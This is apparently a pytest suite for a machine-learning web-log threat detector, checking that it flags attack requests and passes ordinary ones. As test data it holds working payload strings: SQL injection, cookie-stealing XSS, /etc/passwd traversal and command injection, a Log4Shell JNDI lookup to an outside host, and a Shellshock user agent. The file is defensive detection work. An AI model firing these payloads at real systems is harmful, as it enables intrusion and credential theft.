from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import skops.io as sio

from threatlens.errors import ModelError
from threatlens.models.classifier import INFO_FILE, TRUSTED_TYPES, RequestScorer, load_model_file, shipped_model_path
from threatlens.models.dataset import make_record
from threatlens.models.verdict import CATEGORIES, Verdict
from threatlens.parsers import RawLine, get_parser
from threatlens.parsers.record import LogRecord

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


@pytest.fixture(scope="module")
def scorer_factory():
    model = load_model_file(shipped_model_path())
    info = json.loads(shipped_model_path().with_name(INFO_FILE).read_text())

    def make(**kw: object) -> RequestScorer:
        return RequestScorer(model, info, **kw)  # type: ignore[arg-type]

    return make


def rec(target: str, status: int = 200, *, method: str = "GET", ua: str | None = FIREFOX,
        referer: str | None = None, size: int = 4000, ip: str = "198.51.100.7") -> LogRecord:
    path, _, query = target.partition("?")
    return make_record(method, path, query if "?" in target else None, status=status, size=size, user_agent=ua,
                       referer=referer, ip=ip)


def one(scorer: RequestScorer, r: LogRecord) -> Verdict:
    return scorer.score([r])[0]


def test_shipped_model_loads_with_its_description() -> None:
    scorer = RequestScorer.load()
    assert scorer.default_threshold == scorer.threshold == pytest.approx(0.5)
    assert scorer.info["version"]
    assert scorer.info["metrics"]["payload_test"]["roc_auc"] >= 0.99
    assert RequestScorer.load(threshold=0.8).threshold == 0.8
    # found through importlib.resources, inside the package
    assert shipped_model_path().parent.name == "models"
    assert shipped_model_path().with_name(INFO_FILE).is_file()


@pytest.mark.parametrize(
    ("target", "category", "fragment"),
    [
        ("/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "sqli", "union select"),
        ("/item.php?id=1'+AND+SLEEP(5)--+-", "sqli", "sleep("),
        ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "xss", "<script"),
        ("/search?q=%22%3E%3Csvg/onload=confirm(1)%3E", "xss", "onload="),
        ("/download.php?file=../../../../etc/passwd", "path_traversal", "../../"),
        ("/ping.php?host=127.0.0.1;cat%20/etc/passwd", "cmd_injection", "cat"),
        ("/index.php?page=php://filter/convert.base64-encode/resource=index", "file_inclusion", "php://"),
        ("/static/..%252f..%252f..%252fetc/passwd", "path_traversal", "../"),
    ],
)
def test_payloads_are_flagged_with_category_and_reason(scorer_factory, target: str, category: str,
                                                       fragment: str) -> None:
    v = one(scorer_factory(), rec(target, 404))
    assert v.flagged, (target, v)
    assert category in v.categories
    assert any(fragment in r for r in v.reasons), v.reasons
    assert set(v.categories) <= set(CATEGORIES)
    assert not v.possibly_succeeded  # answered 404


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/blog/2015/05/why-we-moved-to-postgres.html",
        "/search?q=union+station+chicago",
        "/search?q=select+comfort+mattress&page=2",
        "/products/drop-leaf-table?id=31&variant=2",
        "/scripts/app.min.js?v=3.2.1",
        "/files/?C=N;O=A",
        "/downloads/xdotool-2.20101014.3063.tar.gz",
        "/search?q=don%27t+stop+me+now",
        "/search?q=rock+%27n%27+roll",
        "/docs/My%20Document%20(final).pdf",
        "/api/v1/users/123/orders?from=2024-01-01&to=2024-12-31&sort=-date",
        "/login?next=%2Fdashboard%3Ftab%3Dsettings",
        "/share?url=https%3A%2F%2Fexample.com%2Fpost%2F12&title=Hello+world",
        "/wiki/C%2B%2B_(programming_language)",
        "/search?q=tom+%26+jerry",
    ],
)
def test_ordinary_requests_are_not_flagged(scorer_factory, target: str) -> None:
    v = one(scorer_factory(), rec(target))
    assert not v.flagged, (target, v)
    assert 0.0 <= v.score < 0.5


def test_tool_agents_and_agent_payloads(scorer_factory) -> None:
    s = scorer_factory()
    v = one(s, rec("/", ua="sqlmap/1.7.2#stable (https://sqlmap.org)"))
    assert v.flagged and "scanner" in v.categories and any("sqlmap" in r for r in v.reasons)
    v = one(s, rec("/", ua="${jndi:ldap://198.51.100.9:1389/a}"))
    assert v.flagged and "cmd_injection" in v.categories and any("user agent" in r for r in v.reasons)
    v = one(s, rec("/cgi-bin/status", ua="() { :; }; /bin/bash -c 'id'"))
    assert v.flagged
    # one crawler list: MJ12bot is a known crawler, so it is not also a "bad bot" of the other list
    crawler = "Mozilla/5.0 (compatible; MJ12bot/v1.4.5; http://www.majestic12.co.uk/bot.php?+)"
    v = one(s, rec("/blog/", ua=crawler))
    assert not v.flagged and v.categories == ()
    v = one(s, rec("/blog/", ua="Mozilla/4.0 (compatible; HTTrack 3.0x; Windows 98)"))
    assert not v.flagged and "bad_bot" in v.categories


def test_referer_payload(scorer_factory) -> None:
    v = one(scorer_factory(), rec("/", referer="http://x.example/?q=1%27%20union%20select%201,2--"))
    assert v.flagged and any("referer" in r for r in v.reasons)


def test_probe_for_software_the_site_does_not_run(scorer_factory) -> None:
    s = scorer_factory()
    s.score([rec("/index.html"), rec("/about.html")])
    v = one(s, rec("/wp-login.php", 404, ua=None))
    assert v.flagged and "scanner" in v.categories
    assert any("does not serve it" in r for r in v.reasons)
    v = one(s, rec("/phpmyadmin/index.php", 404))
    assert v.flagged


def test_probe_paths_the_site_serves_are_not_flagged(scorer_factory) -> None:
    s = scorer_factory()
    s.score([rec("/wp-login.php", 200, ip=f"203.0.113.{i}") for i in range(5)])
    v = one(s, rec("/wp-login.php", 200))
    assert not v.flagged


def test_sensitive_file_answered_is_possibly_succeeded(scorer_factory) -> None:
    s = scorer_factory()
    v = one(s, rec("/.env", 200, size=812))
    assert v.flagged and v.possibly_succeeded and "sensitive_file" in v.categories
    v = one(s, rec("/.git/config", 404))
    assert v.flagged and not v.possibly_succeeded


def test_possibly_succeeded_on_2xx_or_unusual_size(scorer_factory) -> None:
    s = scorer_factory()
    attack = "/item.php?id=1%20union%20select%201,2,3--"
    assert one(s, rec(attack, 200)).possibly_succeeded
    assert not one(s, rec(attack, 403)).possibly_succeeded
    s2 = scorer_factory()
    s2.score([rec(f"/item.php?id={i}", 200, size=5000 + i) for i in range(20)])
    v = one(s2, rec(attack, 500, size=900_000))
    assert v.flagged and v.possibly_succeeded


def test_odd_methods_and_garbage(scorer_factory) -> None:
    s = scorer_factory()
    v = one(s, rec("/", 405, method="PROPFIND"))
    assert "protocol_abuse" in v.categories
    v = one(s, rec("/", 405, method="TRACE"))
    assert v.flagged and "protocol_abuse" in v.categories
    garbage = make_record("\\x16\\x03\\x01\\x00", "/", None, status=400)
    v = one(s, garbage)
    assert v.flagged and "protocol_abuse" in v.categories
    assert all(r.isprintable() for r in v.reasons)
    v = one(s, make_record("GET", "http://proxy-check.example/", None, status=404))
    assert v.flagged


def test_write_to_unserved_path(scorer_factory) -> None:
    s = scorer_factory()
    v = one(s, rec("/blog/post.html/trackback/", 404, method="POST"))
    assert v.flagged
    s.score([rec("/login", 200, method="POST")])
    assert not one(s, rec("/login", 200, method="POST")).flagged


def test_threshold_is_live(scorer_factory) -> None:
    s = scorer_factory()
    probe = rec("/wp-login.php", 404)
    assert one(s, probe).flagged
    s.threshold = 0.99
    assert not one(s, probe).flagged
    s.threshold = s.default_threshold
    assert one(s, probe).flagged


def test_batches_and_caches_give_the_same_answers(scorer_factory) -> None:
    records = [rec(t) for t in ("/a.html", "/search?q=1'+or+'1'='1", "/b.css", "/a.html")] * 50
    cached = scorer_factory()
    batch = cached.score(records)
    assert cached.hits > 0
    single = []
    for r in records:
        fresh = scorer_factory()
        single.append(fresh.score([r])[0])
    assert [v.score for v in batch] == [v.score for v in single]
    assert [v.flagged for v in batch] == [v.flagged for v in single]


def test_caches_are_bounded(scorer_factory) -> None:
    s = scorer_factory(cache_size=40)
    for i in range(5):
        s.score([rec(f"/page/{i}/{j}?x={j}", ua=f"agent {i} {j}") for j in range(100)])
    assert len(s._targets) <= 40 + 100  # the bound plus one batch
    assert len(s._agents) <= 41


def test_real_log_lines_through_the_parser(scorer_factory) -> None:
    parser = get_parser("combined")
    lines = [
        b'203.0.113.9 - - [17/May/2015:10:05:03 +0000] "GET /index.php?id=1%27%20or%20%271%27=%271 HTTP/1.1" '
        b'200 5120 "-" "Mozilla/5.0"',
        b'203.0.113.10 - - [17/May/2015:10:05:04 +0000] "GET /presentations/logstash/index.html HTTP/1.1" '
        b'200 5120 "http://semicomplete.com/" "Mozilla/5.0 (Macintosh)"',
    ]
    records = [parser.parse_raw(RawLine("t.log", i, 0, line)) for i, line in enumerate(lines, 1)]
    assert all(isinstance(r, LogRecord) for r in records)
    v = scorer_factory().score(records)  # type: ignore[arg-type]
    assert v[0].flagged and v[0].possibly_succeeded and "sqli" in v[0].categories
    assert not v[1].flagged


class Smuggled:
    """A type no model file may contain."""

    def __init__(self) -> None:
        self.x = 1


def test_model_with_unexpected_type_is_refused(tmp_path: Path) -> None:
    good = load_model_file(shipped_model_path())
    bad = dict(good, extra=Smuggled())
    path = tmp_path / "evil.skops"
    sio.dump(bad, path)
    with pytest.raises(ModelError, match="unexpected types") as exc:
        load_model_file(path)
    assert "Smuggled" in str(exc.value)
    with pytest.raises(ModelError):
        RequestScorer.load(path)


def test_not_a_model_is_refused(tmp_path: Path) -> None:
    garbage = tmp_path / "garbage.skops"
    garbage.write_bytes(b"not a zip file")
    with pytest.raises(ModelError, match="not a readable"):
        load_model_file(garbage)
    other = tmp_path / "other.skops"
    sio.dump({"weights": np.zeros(3)}, other)
    with pytest.raises(ModelError, match="not a ThreatLens model"):
        load_model_file(other)
    with pytest.raises(ModelError, match="not found"):
        load_model_file(tmp_path / "missing.skops")


def test_trusted_types_are_a_fixed_list() -> None:
    assert isinstance(TRUSTED_TYPES, tuple)
    assert all("." in t for t in TRUSTED_TYPES)
    assert not any("pickle" in t or "builtins.eval" in t for t in TRUSTED_TYPES)


def test_elastic_log_benign_ips_rarely_flagged_and_probes_caught(shared_data: Path) -> None:
    from threatlens.models.dataset import read_access_log

    probes_file = Path(__file__).resolve().parent / "data" / "elastic_probe_ips.txt"
    probes = {ln.split("\t")[0] for ln in probes_file.read_text().splitlines() if ln and not ln.startswith("#")}
    records = list(read_access_log(shared_data / "logs/elastic_apache_logs/apache_logs"))
    verdicts = RequestScorer.load().score(records)
    ips = {r.ip for r in records}
    flagged = {r.ip for r, v in zip(records, verdicts, strict=True) if v.flagged}
    benign = ips - probes
    assert len(flagged & benign) / len(benign) <= 0.01
    assert len(flagged & probes) / len(probes) >= 0.8


def test_hard_negatives_are_mostly_not_flagged(shared_data: Path) -> None:
    from threatlens.models.dataset import load_labeled

    rows = load_labeled(shared_data / "labeled/gotestwaf_testcases/false-pos")
    verdicts = RequestScorer.load().score([r.record for r in rows])
    assert sum(v.flagged for v in verdicts) / len(rows) <= 0.35


def test_protocol_versions_that_do_not_exist_are_protocol_abuse() -> None:
    from threatlens.models.classifier import RequestScorer
    from threatlens.parsers import get_parser

    scorer = RequestScorer.load()
    parser = get_parser("combined")
    lines = [f'192.0.2.{i} - - [10/Oct/2023:10:22:41 +0200] "GET / {proto}" 400 157 "-" "x"'
             for i, proto in enumerate(("HTTP/1.1", "HTTP/2.0", "HTTP/1.2", "HTTP/2.1", "HTTP/9"))]
    verdicts = scorer.score([parser.parse(line) for line in lines])
    assert [v.flagged for v in verdicts] == [False, False, True, True, True]
    assert "protocol_abuse" in verdicts[2].categories
    assert any("invalid protocol version 'HTTP/1.2'" in r for r in verdicts[2].reasons)
